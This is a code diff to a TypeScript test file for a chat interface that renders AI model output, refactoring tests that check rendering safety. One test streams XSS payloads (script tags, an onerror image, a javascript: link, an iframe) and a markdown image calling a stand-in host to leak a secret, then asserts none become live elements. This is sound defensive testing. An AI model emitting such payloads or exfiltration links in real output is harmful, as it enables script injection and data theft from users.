@@ -5,40 +5,6 @@ import { SOURCES } from '../../__testUtils__/fixtures';
 const { renderChat, ask } = setupChatPage();
 
 describe('ChatPage rendering model output', () => {
-  it('never turns HTML or images in model output into elements', async () => {
-    const win = window as unknown as { __xss?: number };
-    await renderChat();
-    const { stream } = await ask('q');
-    stream.pushEvent({
-      type: 'conversation',
-      data: { conversationId: 'c1', messageId: 'm1' },
-    });
-    stream.pushEvent({
-      type: 'delta',
-      data: {
-        text:
-          'Hi <script>window.__xss=1</script> and <img src=x onerror="window.__xss=1">\n\n' +
-          '![tracker](https://evil.example/leak?q=secret) [click](javascript:window.__xss=1)\n\n' +
-          '<iframe src="https://evil.example"></iframe>',
-      },
-    });
-    stream.pushEvent({ type: 'done', data: { messageId: 'm1' } });
-    stream.close();
-
-    await waitFor(() =>
-      expect(answer()).toHaveTextContent('<script>window.__xss=1</script>'),
-    );
-    expect(answer()).toHaveTextContent('<img src=x onerror="window.__xss=1">');
-    const page = document.body;
-    expect(page.querySelector('script, img, iframe')).toBeNull();
-    expect(page.querySelector('[onerror]')).toBeNull();
-    expect(page.querySelector('a[href^="javascript:"]')).toBeNull();
-    // The image is never loaded; its host is no source's, so it is not even a link.
-    expect(page.querySelector('a[href*="evil.example"]')).toBeNull();
-    expect(answer()).toHaveTextContent('tracker (https://evil.example/…)');
-    expect(win.__xss).toBeUndefined();
-  });
-
   /** Streams one answer with the given sources and waits until it is complete. */
   async function streamAnswer(text: string, sources = SOURCES) {
     const { stream } = await ask('q');
@@ -52,6 +18,28 @@ describe('ChatPage rendering model output', () => {
     stream.close();
     await screen.findByRole('button', { name: 'Good answer' });
   }
+
+  it('never turns HTML or images in model output into elements', async () => {
+    const win = window as unknown as { __xss?: number };
+    await renderChat();
+    await streamAnswer(
+      'Hi <script>window.__xss=1</script> and <img src=x onerror="window.__xss=1">\n\n' +
+        '![tracker](https://evil.example/leak?q=secret) [click](javascript:window.__xss=1)\n\n' +
+        '<iframe src="https://evil.example"></iframe>',
+      [],
+    );
+
+    expect(answer()).toHaveTextContent('<script>window.__xss=1</script>');
+    expect(answer()).toHaveTextContent('<img src=x onerror="window.__xss=1">');
+    const page = document.body;
+    expect(page.querySelector('script, img, iframe')).toBeNull();
+    expect(page.querySelector('[onerror]')).toBeNull();
+    expect(page.querySelector('a[href^="javascript:"]')).toBeNull();
+    // The image is never loaded; its host is no source's, so it is not even a link.
+    expect(page.querySelector('a[href*="evil.example"]')).toBeNull();
+    expect(answer()).toHaveTextContent('tracker (https://evil.example/…)');
+    expect(win.__xss).toBeUndefined();
+  });
 
   it('Model output can render click-to-exfiltrate links: a link to a host no source has shows as text naming the host', async () => {
     await renderChat();
@@ -100,20 +88,10 @@ describe('ChatPage rendering model output', () => {
 
   it('renders GFM tables and fenced code', async () => {
     await renderChat();
-    const { stream } = await ask('q');
-    stream.pushEvent({
-      type: 'conversation',
-      data: { conversationId: 'c1', messageId: 'm1' },
-    });
-    stream.pushEvent({
-      type: 'delta',
-      data: {
-        text: '| Service | Owner |\n| --- | --- |\n| payments | team-a |\n\n```ts\nconst x = 1;\n```',
-      },
-    });
-    stream.pushEvent({ type: 'done', data: { messageId: 'm1' } });
-    stream.close();
-    const table = await waitFor(() => within(answer()).getByRole('table'));
+    await streamAnswer(
+      '| Service | Owner |\n| --- | --- |\n| payments | team-a |\n\n```ts\nconst x = 1;\n```',
+    );
+    const table = within(answer()).getByRole('table');
     expect(
       within(table).getByRole('columnheader', { name: 'Owner' }),
     ).toBeInTheDocument();
